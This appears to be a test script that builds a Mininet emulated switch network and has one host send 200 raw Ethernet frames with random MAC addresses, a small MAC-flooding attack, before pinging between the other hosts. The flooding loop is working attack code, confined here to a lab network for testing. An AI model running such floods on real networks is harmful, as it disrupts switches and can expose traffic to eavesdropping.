# SPDX-License-Identifier: Apache-2.0
# kind: MAC flooding
# expect: frames sent: 200
from mininet.net import Mininet
from mininet.topo import SingleSwitchTopo
net = Mininet(SingleSwitchTopo(3))
net.start()
flood = ("import os, socket; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('h3-eth0', 0)); "
         "print('frames sent:', sum(s.send(os.urandom(6)[:0] + b'\\2' + os.urandom(5) + b'\\2' + os.urandom(5) + b'\\x88\\xb5' + bytes(46)) > 0 for _ in range(200)))")
print(net['h3'].cmd('python3 -c "%s"' % flood))
net.ping([net['h1'], net['h2']])
net.stop()
